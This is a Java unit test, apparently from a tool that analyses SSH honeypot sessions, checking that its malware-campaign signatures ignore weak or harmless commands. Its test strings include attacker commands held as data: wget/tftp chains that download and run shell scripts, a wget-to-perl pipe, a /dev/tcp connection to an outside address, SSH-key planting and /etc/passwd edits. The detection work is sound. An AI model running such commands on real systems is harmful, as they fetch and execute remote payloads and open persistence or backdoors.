package io.github.cowriekit.analysis.internal.playbook;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.analysis.Analysis;
import io.github.cowriekit.analysis.CampaignSignatures;
import io.github.cowriekit.analysis.Sessions;
import io.github.cowriekit.model.assessment.CampaignMatch;
import io.github.cowriekit.model.assessment.Playbook;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Words of campaigns that are no mark: nothing acts on them, or others use them as well. */
class WordsOfNobodyTest {
    private static final Analysis ANALYSIS = Analysis.standard();
    private static final String HEADING = "campaign\tkind\twhere\tmark\tneeds\tunless\tfirst\tlast\tsource\n";

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "uname -a",
                "ps aux | grep -v grep | grep -i 'kdevtmpfsi\\|kinsing\\|miner'",
                "pkill -9 kdevtmpfsi; killall kinsing",
                "rm -rf /tmp/kinsing* /tmp/.X25-unix",
                "echo kinsing",
                "vi /etc/cron.hourly/gcc.sh",
                "which redtail; ls /tmp/.X25-unix",
                "/bin/busybox TOUCH",
                "busybox wget",
                "busybox nmap",
                "/bin/busybox python3",
                "/bin/busybox version",
                "/bin/busybox wegt",
                "/bin/busybox hello",
                "/bin/busybox test1",
                "/bin/busybox foo; /bin/busybox applets",
                "/bin/busybox unmae -a; /bin/busybox unmae",
                "/bin/busybox lsls; /bin/busybox pyhton",
                "/bin/busybox 123; /bin/busybox xxxx",
                "busybox LIST; busybox VERSION",
                "grep suhelper:x /etc/passwd",
                "sudo grep -n suhelper:x /etc/passwd; id suhelper; userdel suhelper",
                "getent passwd | egrep 'suhelper:x'",
                "sed -i '/suhelper:x/d' /etc/passwd",
                "echo 'no suhelper:x in here'",
                "env | grep AAZHDE=",
                "if grep -q suhelper:x /etc/passwd; then echo found; fi",
                "/bin/busybox grep suhelper:x /etc/passwd",
                "! timeout 5 /bin/grep -q suhelper:x /etc/passwd && echo clean",
                "find /etc -name passwd -exec grep -l suhelper:x {} \\;",
                "echo suhelper:x | grep -c suhelper:x",
                "x=$(grep AAZHDE= /proc/1/environ); echo $x",
                "cat /proc/1/environ | tr '\\0' '\\n' | grep AAZHDE=",
                "sh -c 'grep AAZHDE= /etc/environment'",
                "ls tftp1.sh tftp2.sh ftp1.sh",
                "rm -rf tftp1.sh tftp2.sh ftp1.sh; ls",
                "ls -la tftp1.sh; find / -name tftp2.sh; rm -f ftp1.sh",
                "grep 'cp .s .i' a.log",
                "grep -c 'cat .s || cp /bin/echo .s' a.log",
                "cat a.log | grep 'dd bs=52 count=1 if=.s || cat .s'",
                "grep 'wget -qO - http://192.0.2.7/perl | perl' a.log",
                "history | grep 'curl -sS 192.0.2.7/zed | perl'",
                "echo \"echo -n 'GET /linux' >&6\"",
                "wget http://192.0.2.3/bins.sh; sh bins.sh; tftp 192.0.2.3 -c get tftp1.sh; sh tftp1.sh; "
                        + "tftp -r tftp2.sh -g 192.0.2.3; sh tftp2.sh; rm -rf bins.sh tftp1.sh tftp2.sh",
            })
    void namesNothingThatIsOnlyReadOrRemoved(String command) {
        assertThat(all(of(command))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "exec 3<>/dev/tcp/203.0.113.9/60110",
                "cp notes.txt /tmp/pty2",
                "/tmp/pty2",
                "dhpcd",
                "sudo dhpcd eth0",
                "wget http://192.0.2.9/ldr.sh",
                "wget http://192.0.2.9/xms",
                "cp notes.txt /tmp/network01",
                "useradd -m hilde",
                "echo 'export A=1' > /etc/profile.d/linux.sh",
                "echo 1 > /dev/shm/.x/a",
                "wget http://192.0.2.9/newinit.sh",
                "./connect telnet.example.com",
                "ls /tmp/.X11-unix; mkdir -p /tmp/.X11-unix",
                "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhLxYb1zz6pXK1g helloworld >> a",
                "hostname FICORA-test",
            })
    void namesNoCampaignByOneWeakWord(String command) {
        assertThat(of(command).campaigns()).isEmpty();
    }

    @Test
    void countsAWeakMarkBesideAnother() throws IOException {
        Path file = folder.resolve("campaigns.tsv");
        Files.writeString(
                file,
                HEADING
                        + "mine\tfamily\twritten\t^/tmp/a$\t/tmp/a\talone\t-\t-\tme\n"
                        + "mine\tfamily\trun\t/tmp/a$\t/tmp/a\talone\t-\t-\tme\n"
                        + "mine\tfamily\tline\tgo on$\tgo on\t-\t-\t-\tme\n");
        Analysis own =
                Analysis.builder().campaigns(CampaignSignatures.load(file)).build();

        assertThat(marks(own, "cp x /tmp/a", "cp y /tmp/a")).isEmpty();
        assertThat(marks(own, "/tmp/a")).isEmpty();
        assertThat(marks(own, "go on")).containsExactly("line go on$");
        assertThat(marks(own, "cp x /tmp/a", "/tmp/a")).containsExactly("written ^/tmp/a$", "run /tmp/a$");
        assertThat(marks(own, "/tmp/a", "go on")).containsExactly("run /tmp/a$", "line go on$");
    }

    private static List<String> marks(Analysis analysis, String... commands) {
        return Objects.requireNonNull(
                        analysis.assess(Sessions.ran(commands).build()).playbook())
                .campaigns()
                .stream()
                .flatMap(match -> match.marks().stream())
                .toList();
    }

    private static List<String> all(Playbook playbook) {
        return Stream.concat(playbook.campaigns().stream(), playbook.tools().stream())
                .map(CampaignMatch::name)
                .toList();
    }

    private static Playbook of(String... commands) {
        return Objects.requireNonNull(
                ANALYSIS.assess(Sessions.ran(commands).build()).playbook());
    }
}
